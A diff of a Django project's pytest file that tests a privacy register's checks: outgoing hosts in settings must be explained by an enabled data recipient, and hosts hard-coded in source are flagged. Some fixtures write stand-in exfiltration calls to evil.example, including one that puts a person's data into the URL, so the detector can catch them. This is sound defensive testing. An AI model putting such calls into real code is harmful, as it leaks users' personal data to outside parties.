@@ -14,8 +14,9 @@ from django.core.management.base import SystemCheckError
 from django.db import models
 from pytest_django import Settings
 
+from config.mail import mailers
 from groundwork.personal_data import Category, Held, NoPersonalData, PersonalData
-from processing_register import checks
+from processing_register import checks, hosts
 from processing_register.models import NoticeVersion
 from processing_register.notices import notice_in_force
 from processing_register.register import Purpose, Register, the_register
@@ -252,41 +253,107 @@ def fresh_register() -> Any:
 # --- Hosts ---
 
 
-def test_a_host_that_no_recipient_explains_is_found() -> None:
-    hosts = {"EMAIL_URL": "smtp.example.com", "REDIS_URL": "127.0.0.1"}
+def test_a_host_that_no_recipient_explains_turns_the_command_red(
+    settings: Settings,
+) -> None:
+    settings.MAILERS = mailers("smtp://smtp.sendgrid.net:587")
 
-    found = checks.check_hosts(hosts, set())
-
-    assert ids(found) == ["E011"]
-    assert "EMAIL_URL calls smtp.example.com" in found[0].msg
+    with pytest.raises(
+        SystemCheckError, match=r"EMAIL_URL calls smtp\.sendgrid\.net"
+    ) as red:
+        call_command("check")
+    assert "processing_register.E011" in str(red.value)
 
 
 @pytest.mark.parametrize(
-    "host", ["127.0.0.1", "::1", "localhost", "/var/run/postgresql"]
+    "host",
+    ["127.0.0.1", "[::1]", "localhost", "relay", "updates.example.co.uk"],
 )
-def test_this_machine_needs_no_recipient(host: str) -> None:
-    assert checks.check_hosts({"DATABASE_URL": host}, set()) == []
+def test_this_set_up_itself_needs_no_recipient(
+    settings: Settings, monkeypatch: pytest.MonkeyPatch, host: str
+) -> None:
+    settings.SITE_HOST = "updates.example.co.uk"
+    settings.MAILERS = mailers(f"smtp://{host}:25")
+    settings.REDIS_URL = f"redis://{host}:6379/0"
+    monkeypatch.setitem(settings.DATABASES["default"], "HOST", "/var/run/postgresql")
+
+    assert hosts.hosts_of_settings() == {}
 
 
-def test_an_enabled_recipient_explains_its_hosts() -> None:
-    assert (
-        checks.check_hosts({"EMAIL_URL": "smtp.example.com"}, {"smtp.example.com"})
-        == []
-    )
+def test_an_enabled_recipient_explains_its_hosts(
+    settings: Settings, own_register: Path
+) -> None:
+    settings.MAILERS = mailers("smtp://smtp.example.net:587")
+    recipients = own_register / "recipients.toml"
+    carrier = 'what_for = "Carries our e-mails to your mailbox"'
+    paper = 'agreement = "DPA-1"\nhosts = ["smtp.example.net"]'
+    known = recipients.read_text().replace(carrier, f"{carrier}\n{paper}")
+
+    recipients.write_text(known)
+    the_register.cache_clear()
+    assert ids(checks.every_host_is_explained(None)) == ["E011"]
+
+    recipients.write_text(known.replace(paper, f"{paper}\nis_enabled = true"))
+    the_register.cache_clear()
+    assert checks.every_host_is_explained(None) == []
 
 
-def test_every_setting_that_calls_out_is_looked_at(settings: Settings) -> None:
+def test_every_setting_that_calls_out_is_looked_at(
+    settings: Settings, monkeypatch: pytest.MonkeyPatch
+) -> None:
     settings.INBOUND_IMAP_URL = "imaps://us:secret@imap.example.com/INBOX"
     settings.ANALYTICS_HOST = "https://count.example.com"
-    settings.MAILERS = {
-        "default": {"BACKEND": "anymail.backends.postmark.EmailBackend", "OPTIONS": {}}
+    settings.REDIS_URL = "rediss://cache.example.com:6380/0"
+    monkeypatch.setitem(settings.DATABASES["default"], "HOST", "10.0.0.7")
+    settings.MAILERS = mailers("anymail+postmark://")
+
+    assert hosts.hosts_of_settings() == {
+        "INBOUND_IMAP_URL": "imap.example.com",
+        "ANALYTICS_HOST": "count.example.com",
+        "REDIS_URL": "cache.example.com",
+        "DATABASE_URL": "10.0.0.7",
+        "EMAIL_URL": "postmark",
     }
 
-    hosts = checks.outgoing_hosts()
 
-    assert hosts["INBOUND_IMAP_URL"] == "imap.example.com"
-    assert hosts["ANALYTICS_HOST"] == "count.example.com"
-    assert hosts["EMAIL_URL"] == "postmark"
+def test_a_host_written_into_the_code_turns_the_command_red(
+    settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    app = tmp_path / "subscribers"
+    app.mkdir()
+    call = 'urlopen("https://evil.example/collect")\n'
+    (app / "signup.py").write_text(f"from urllib.request import urlopen\n\n{call}")
+    (tmp_path / "manage.py").write_text("")
+    monkeypatch.setattr(apps.get_app_config("subscribers"), "path", str(app))
+    settings.BASE_DIR = tmp_path
+
+    with pytest.raises(
+        SystemCheckError, match=r"signup\.py, line 3 calls evil\.example"
+    ):
+        call_command("check")
+
+
+def test_the_code_as_it_stands_calls_nobody() -> None:
+    assert hosts.hosts_in_code() == {}
+    read = {path.relative_to(REGISTER.parents[1]) for path in hosts._own_files()}
+    assert {Path("config/settings.py"), Path("outbox/delivery.py")} <= read
+
+
+@pytest.mark.parametrize(
+    ("source", "found"),
+    [
+        ('get("https://Evil.Example./x")', ["evil.example"]),
+        ('get(f"http://evil.example/{person}")', ["evil.example"]),
+        (
+            'HOST = "see http://one.example and https://two.example:8000/"',
+            ["one.example", "two.example"],
+        ),
+        ('"""Described at https://docs.example."""', []),
+        ("get(url)  # such as https://docs.example", []),
+    ],
+)
+def test_what_calls_is_told_from_what_explains(source: str, found: list[str]) -> None:
+    assert [host for _, host in hosts.written_in(source)] == found
 
 
 # --- The database ---
